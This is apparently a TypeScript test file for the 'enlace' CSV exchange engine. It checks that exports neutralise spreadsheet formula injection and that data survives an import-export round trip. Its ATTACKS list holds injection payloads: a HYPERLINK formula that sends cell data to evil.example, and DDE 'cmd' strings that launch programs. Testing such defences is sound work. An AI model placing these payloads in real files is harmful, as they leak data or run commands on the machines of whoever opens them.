import { mkdtemp, readdir, readFile, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { directorySource, FILE_BY_KIND, formatFolder, memorySource } from '@enlace/core';
import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { testDatabases } from '../../test/databases.ts';
import type { Db } from '../db/index.ts';
import { exportFolder, importFolder } from './engine.ts';
import { TABLES } from './tables.ts';

/**
 * Formula injection (docs/exchange.md): `enlace export` neutralises text cells that a spreadsheet would run,
 * `enlace import` reads them back unchanged, on both databases.
 */
const actor = { userId: null, agencyId: null };
const FORMULA = /^[=+\-@\t\r]/;
const ATTACKS = [
  '=HYPERLINK("http://evil.example/?"&A1,"Ver expediente")',
  "+cmd|' /C calc'!A0",
  '-2+3+cmd|x',
  '@SUM(1+1)*cmd|x',
  '\t=1+1',
  '\r=1+1',
  "'=1+1",
];

function values(kind: keyof typeof FILE_BY_KIND, v: Record<string, unknown>) {
  return FILE_BY_KIND[kind].columns.map((c) => (c.name in v ? v[c.name] : null));
}

function folderWith(texts: readonly string[], ag = '=ag') {
  return formatFolder({
    agencies: [
      values('agencies', { agency_id: ag, name: texts[0], level: 'ngo', kind: 'other', country: 'MEX' }),
    ],
    persons: texts.map((t, i) =>
      values('persons', {
        person_id: `${Array.from(t).slice(0, 20).join('')}#${ag}${i}`,
        agency_id: ag,
        given_names: t,
        surname_1: t,
        surname_2: `x${t}`,
        phone: '+52 55 1234 5678',
        email: '@example',
        address: t,
      }),
    ),
    hotline_contacts: [
      values('hotline_contacts', {
        contact_id: '-1',
        agency_id: ag,
        date: '2023-01-02',
        channel: 'phone',
        trafficking_related: true,
      }),
    ],
    convictions: [
      values('convictions', {
        conviction_id: '+c',
        agency_id: ag,
        date: '2023-02-03',
        primary_form: 'sexual',
        sentence_months: 0,
      }),
    ],
  });
}

async function readFolder(dir: string): Promise<Record<string, string>> {
  const out: Record<string, string> = {};
  for (const f of (await readdir(dir)).sort()) out[f] = await readFile(join(dir, f), 'utf8');
  return out;
}

async function persons(db: Db) {
  const { rows } = await db.query<Record<string, unknown>>(
    'SELECT * FROM persons ORDER BY person_id COLLATE "C"',
  );
  return rows.map((r) => TABLES.persons.fromDb(r));
}

describe.each(testDatabases())('exchange export against formula injection on $name', ({ open }) => {
  let db: Db;
  let tmp: string;
  beforeAll(async () => {
    db = await open();
    tmp = await mkdtemp(join(tmpdir(), 'enlace-formula-'));
  });
  afterAll(async () => {
    await db.close();
    await rm(tmp, { recursive: true, force: true });
  });

  it('stores the text as given, exports it neutralised, and an import of the export gives the same bytes', async () => {
    const res = await importFolder({ db, actor }, memorySource(folderWith(ATTACKS)));
    expect(res.errors).toEqual([]);
    const stored = await persons(db);
    const gi = FILE_BY_KIND.persons.columns.findIndex((c) => c.name === 'given_names');
    expect(stored.map((p) => p[gi]).sort()).toEqual([...ATTACKS].sort());
    const agency = await db.query<{ id: string; name: string }>(
      "SELECT id, name FROM agencies WHERE id = '=ag'",
    );
    expect(agency.rows).toEqual([{ id: '=ag', name: ATTACKS[0] }]);

    const out = join(tmp, 'export');
    await exportFolder({ db, actor }, out);
    const files = await readFolder(out);
    let neutralised = 0;
    for (const [file, text] of Object.entries(files)) {
      for (const record of parse(text) as string[][]) {
        for (const cell of record) {
          expect(cell, `${file}: ${JSON.stringify(cell)}`).not.toMatch(FORMULA);
          if (/^'+[=+\-@\t\r]/.test(cell)) neutralised++;
        }
      }
    }
    expect(neutralised).toBeGreaterThan(ATTACKS.length * 5);
    expect(files['persons.csv']).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""Ver expediente"")"`);
    expect(files['persons.csv']).toContain("''=1+1");
    expect(files['persons.csv']).toContain("'+52 55 1234 5678");
    expect(files['hotline_contacts.csv']).toContain("\r\n'-1,'=ag,2023-01-02,");
    // The typed cell sentence_months 0 and dates are untouched.
    expect(files['convictions.csv']).toMatch(/^'\+c,'=ag,,2023-02-03,sexual,,0,,\r$/m);

    // Round trip: the export imports into an empty database with the same values, and exports the same bytes.
    const db2 = await open();
    try {
      const again = await importFolder({ db: db2, actor }, directorySource(out));
      expect(again.errors).toEqual([]);
      expect(await persons(db2)).toEqual(stored);
      const out2 = join(tmp, 'export2');
      await exportFolder({ db: db2, actor: { userId: null, agencyId: null } }, out2);
      expect(await readFolder(out2)).toEqual(files);
      // And importing the export into the first database changes nothing.
      const same = await importFolder({ db, actor }, directorySource(out));
      for (const f of same.files) expect([f.file, f.inserted, f.updated]).toEqual([f.file, 0, 0]);
    } finally {
      await db2.close();
    }
  });

  it('property: any text in the text columns survives import → export → import', async () => {
    const text = fc
      .oneof(
        fc.string({ unit: 'grapheme', minLength: 1, maxLength: 30 }),
        fc.constantFrom(...ATTACKS),
        fc
          .array(fc.constantFrom("'", '=', '+', '-', '@', '\t', '\r', 'a', ' ', '"', ','), {
            minLength: 1,
            maxLength: 6,
          })
          .map((c) => c.join('')),
      )
      .filter((s) => !s.includes('\0') && !s.includes('\uFFFD') && s.trim() !== '');
    let run = 0;
    await fc.assert(
      fc.asyncProperty(fc.uniqueArray(text, { minLength: 1, maxLength: 4 }), async (texts) => {
        run++;
        // Each run under its own agency in the same database (its ids and persons are its own).
        const r = await importFolder({ db, actor }, memorySource(folderWith(texts, `=ag${run}`)));
        expect(r.errors).toEqual([]);
        const before = await persons(db);
        const gi = FILE_BY_KIND.persons.columns.findIndex((c) => c.name === 'given_names');
        const ai = FILE_BY_KIND.persons.columns.findIndex((c) => c.name === 'agency_id');
        expect(
          before
            .filter((p) => p[ai] === `=ag${run}`)
            .map((p) => p[gi])
            .sort(),
        ).toEqual([...texts].sort());
        const out = join(tmp, `p${run}`);
        await exportFolder({ db, actor }, out);
        const back = await importFolder({ db, actor }, directorySource(out));
        for (const f of back.files) expect([f.file, f.inserted, f.updated]).toEqual([f.file, 0, 0]);
        expect(await persons(db)).toEqual(before);
      }),
      { numRuns: 25, seed: 20261204 },
    );
  }, 240_000);
});
